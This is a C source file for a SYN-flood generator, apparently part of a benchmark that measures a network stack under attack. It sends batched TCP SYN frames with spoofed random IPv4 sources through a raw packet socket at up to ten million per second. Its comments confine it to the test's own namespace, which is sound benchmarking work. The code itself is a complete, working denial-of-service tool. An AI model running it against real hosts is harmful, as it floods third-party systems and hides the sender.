/* mlw_syn_flood.c - a paced SYN flood from random IPv4 sources, for the SYN-flood benchmark
 * (it_synflood.sh, synflood_linux.sh; issue 12 item 5).
 *
 *   mlw_syn_flood --iface IF --dst-mac MAC --dst IPV4 --port N
 *                 [--rate N] [--seconds S] [--count N] [--seed N]
 *
 * Writes Ethernet frames (IPv4, TCP SYN with an MSS option) to IF through a
 * packet socket, in batches of 64 with sendmmsg() and the qdisc bypassed. Every
 * frame has a random source address (any IPv4 address, as hping3's
 * --rand-source), source port and sequence number, and correct checksums.
 * --rate paces to N frames per second on an absolute schedule (0: as fast as
 * the socket takes them); the run ends after --seconds (default 10) or
 * --count frames, or at SIGINT/SIGTERM, whichever comes first. The rate is
 * bounded too (at most 10 million frames per second), so a typo cannot turn a
 * test into an unbounded load. Prints one line:
 *   sent N frames in T s (R/s), E send errors
 *
 * Why not hping3: its flood is one sendto() through the IP layer per frame,
 * which costs a whole core at ~250k/s and cannot be paced above ~15k/s
 * (its -i has microsecond sleeps). This generator sends 100k/s at a small
 * fraction of a core, so on a 2-core machine the benchmark measures the
 * stack under attack, not the attacker.
 *
 * Send only into a namespace the test made: the destination MAC and address
 * are the test's own stack.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <getopt.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define BATCH 64
#define FRAME_LEN 60	/* 14 + 20 + 24 + 2 padding to Ethernet's minimum */
#define MAX_RATE 10000000UL

static volatile sig_atomic_t stop;

static void on_signal(int sig)
{
	(void)sig;
	stop = 1;
}

static void usage(FILE *f)
{
	fprintf(f, "usage: mlw_syn_flood --iface IF --dst-mac MAC --dst IPV4 --port N\n"
		   "                     [--rate N] [--seconds S] [--count N] [--seed N]\n"
		   "  SYNs from random IPv4 sources to IPV4:N through IF (a packet socket).\n"
		   "  --rate N     frames per second, 0 = as fast as possible (default 100000, at most %lu)\n"
		   "  --seconds S  stop after S seconds (default 10, at most 3600)\n"
		   "  --count N    stop after N frames (default: no limit but the time)\n"
		   "  --seed N     random seed (default 1)\n",
		MAX_RATE);
}

static uint64_t rng_state;

static uint64_t rnd(void)
{
	/* xorshift64* */
	rng_state ^= rng_state >> 12;
	rng_state ^= rng_state << 25;
	rng_state ^= rng_state >> 27;
	return rng_state * 0x2545F4914F6CDD1DULL;
}

static uint32_t sum16(const uint8_t *p, size_t n, uint32_t s)
{
	for (size_t i = 0; i + 1 < n; i += 2)
		s += (uint32_t)(p[i] << 8 | p[i + 1]);
	if (n & 1)
		s += (uint32_t)(p[n - 1] << 8);
	return s;
}

static uint16_t fold(uint32_t s)
{
	while (s >> 16)
		s = (s & 0xffff) + (s >> 16);
	return (uint16_t)~s;
}

static void put16(uint8_t *p, uint16_t v)
{
	p[0] = (uint8_t)(v >> 8);
	p[1] = (uint8_t)v;
}

static void put32(uint8_t *p, uint32_t v)
{
	put16(p, (uint16_t)(v >> 16));
	put16(p + 2, (uint16_t)v);
}

/* The template: Ethernet, IPv4 (no options), TCP SYN with MSS 1460. */
static void build_template(uint8_t *f, const uint8_t *dmac, const uint8_t *smac, uint32_t dst, uint16_t port)
{
	memset(f, 0, FRAME_LEN);
	memcpy(f, dmac, 6);
	memcpy(f + 6, smac, 6);
	put16(f + 12, ETHERTYPE_IP);
	uint8_t *ip = f + 14;
	ip[0] = 0x45;
	put16(ip + 2, 20 + 24);
	ip[8] = 64;	/* TTL */
	ip[9] = IPPROTO_TCP;
	memcpy(ip + 16, &dst, 4);	/* network order already */
	uint8_t *tcp = ip + 20;
	put16(tcp + 2, port);
	tcp[12] = 6 << 4;	/* 24 bytes */
	tcp[13] = 0x02;		/* SYN */
	put16(tcp + 14, 64240);
	tcp[20] = 2;		/* MSS */
	tcp[21] = 4;
	put16(tcp + 22, 1460);
}

/* Randomize one frame's source, port, sequence number and IP ID; recompute both checksums. */
static void randomize(uint8_t *f)
{
	uint8_t *ip = f + 14, *tcp = ip + 20;
	uint64_t r = rnd(), r2 = rnd();
	put32(ip + 12, (uint32_t)r);
	put16(ip + 4, (uint16_t)(r2 >> 48));
	put16(tcp, (uint16_t)(1024 + (r >> 32) % 64512));
	put32(tcp + 4, (uint32_t)r2);
	put16(ip + 10, 0);
	put16(ip + 10, fold(sum16(ip, 20, 0)));
	put16(tcp + 16, 0);
	uint32_t s = sum16(ip + 12, 8, 0) + IPPROTO_TCP + 24;
	put16(tcp + 16, fold(sum16(tcp, 24, s)));
}

static int parse_mac(const char *s, uint8_t *m)
{
	unsigned int b[6];
	char extra;
	if (sscanf(s, "%x:%x:%x:%x:%x:%x%c", &b[0], &b[1], &b[2], &b[3], &b[4], &b[5], &extra) != 6)
		return -1;
	for (int i = 0; i < 6; i++) {
		if (b[i] > 255)
			return -1;
		m[i] = (uint8_t)b[i];
	}
	return 0;
}

static int parse_ulong(const char *s, unsigned long max, unsigned long *out)
{
	char *end;
	errno = 0;
	unsigned long v = strtoul(s, &end, 10);
	if (errno || end == s || *end || s[0] == '-' || v > max)
		return -1;
	*out = v;
	return 0;
}

static double now_s(void)
{
	struct timespec t;
	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

int main(int argc, char **argv)
{
	const char *iface = NULL;
	uint8_t dmac[6];
	int have_mac = 0;
	struct in_addr dst = { 0 };
	unsigned long port = 0, rate = 100000, seconds = 10, count = 0, seed = 1;
	static const struct option opts[] = {
		{ "iface", required_argument, NULL, 'i' },  { "dst-mac", required_argument, NULL, 'm' },
		{ "dst", required_argument, NULL, 'd' },    { "port", required_argument, NULL, 'p' },
		{ "rate", required_argument, NULL, 'r' },   { "seconds", required_argument, NULL, 's' },
		{ "count", required_argument, NULL, 'c' },  { "seed", required_argument, NULL, 'S' },
		{ "help", no_argument, NULL, 'h' },	    { NULL, 0, NULL, 0 },
	};
	int c, li = 0;
	while ((c = getopt_long(argc, argv, "", opts, &li)) != -1) {
		int bad = 0;
		switch (c) {
		case 'i': iface = optarg; break;
		case 'm': bad = parse_mac(optarg, dmac); have_mac = 1; break;
		case 'd': bad = inet_pton(AF_INET, optarg, &dst) == 1 ? 0 : -1; break;
		case 'p': bad = parse_ulong(optarg, 65535, &port) || port == 0; break;
		case 'r': bad = parse_ulong(optarg, MAX_RATE, &rate); break;
		case 's': bad = parse_ulong(optarg, 3600, &seconds) || seconds == 0; break;
		case 'c': bad = parse_ulong(optarg, ~0UL, &count); break;
		case 'S': bad = parse_ulong(optarg, ~0UL, &seed); break;
		case 'h': usage(stdout); return 0;
		default: usage(stderr); return 2;
		}
		if (bad) {
			fprintf(stderr, "mlw_syn_flood: bad value for --%s: '%s'\n", opts[li].name, optarg);
			usage(stderr);
			return 2;
		}
	}
	if (!iface || !have_mac || !dst.s_addr || !port || optind != argc) {
		fprintf(stderr, "mlw_syn_flood: --iface, --dst-mac, --dst and --port are required\n");
		usage(stderr);
		return 2;
	}
	unsigned int ifindex = if_nametoindex(iface);
	if (!ifindex) {
		fprintf(stderr, "mlw_syn_flood: no interface '%s': %s\n", iface, strerror(errno));
		return 1;
	}
	int fd = socket(AF_PACKET, SOCK_RAW, 0);	/* protocol 0: send only, receive nothing */
	if (fd < 0) {
		fprintf(stderr, "mlw_syn_flood: packet socket: %s (needs CAP_NET_RAW)\n", strerror(errno));
		return 1;
	}
	int one = 1;
	(void)setsockopt(fd, SOL_PACKET, PACKET_QDISC_BYPASS, &one, sizeof(one));
	struct ifreq ifr = { 0 };
	snprintf(ifr.ifr_name, sizeof(ifr.ifr_name), "%s", iface);
	if (ioctl(fd, SIOCGIFHWADDR, &ifr) < 0) {
		fprintf(stderr, "mlw_syn_flood: %s's MAC address: %s\n", iface, strerror(errno));
		return 1;
	}
	struct sockaddr_ll to = { .sll_family = AF_PACKET, .sll_ifindex = (int)ifindex, .sll_halen = 6 };
	memcpy(to.sll_addr, dmac, 6);

	static uint8_t frames[BATCH][FRAME_LEN];
	struct iovec iov[BATCH];
	struct mmsghdr msgs[BATCH];
	for (int i = 0; i < BATCH; i++) {
		build_template(frames[i], dmac, (const uint8_t *)ifr.ifr_hwaddr.sa_data, dst.s_addr,
			       (uint16_t)port);
		iov[i] = (struct iovec){ frames[i], FRAME_LEN };
		msgs[i] = (struct mmsghdr){ .msg_hdr = { .msg_name = &to, .msg_namelen = sizeof(to),
							 .msg_iov = &iov[i], .msg_iovlen = 1 } };
	}
	rng_state = seed * 0x9E3779B97F4A7C15ULL + 1;
	signal(SIGINT, on_signal);
	signal(SIGTERM, on_signal);

	unsigned long long sent = 0, errors = 0;
	double t0 = now_s(), end = t0 + (double)seconds;
	for (;;) {
		double t = now_s();
		if (stop || t >= end || (count && sent >= count))
			break;
		if (rate) {
			double due = t0 + (double)sent / (double)rate;	/* when this batch may go */
			if (due > t) {
				double w = due - t;
				struct timespec ts = { (time_t)w, (long)((w - (double)(time_t)w) * 1e9) };
				nanosleep(&ts, NULL);
				continue;
			}
		}
		unsigned int n = BATCH;
		if (count && count - sent < n)
			n = (unsigned int)(count - sent);
		for (unsigned int i = 0; i < n; i++)
			randomize(frames[i]);
		int k = sendmmsg(fd, msgs, n, 0);
		if (k < 0) {
			if (errno == EINTR)
				continue;
			errors++;
			if (errno != ENOBUFS && errno != EAGAIN) {
				fprintf(stderr, "mlw_syn_flood: sendmmsg: %s\n", strerror(errno));
				return 1;
			}
			continue;
		}
		sent += (unsigned long long)k;
	}
	double el = now_s() - t0;
	printf("sent %llu frames in %.2f s (%.0f/s), %llu send errors\n", sent, el, el > 0 ? (double)sent / el : 0.0,
	       errors);
	close(fd);
	return 0;
}
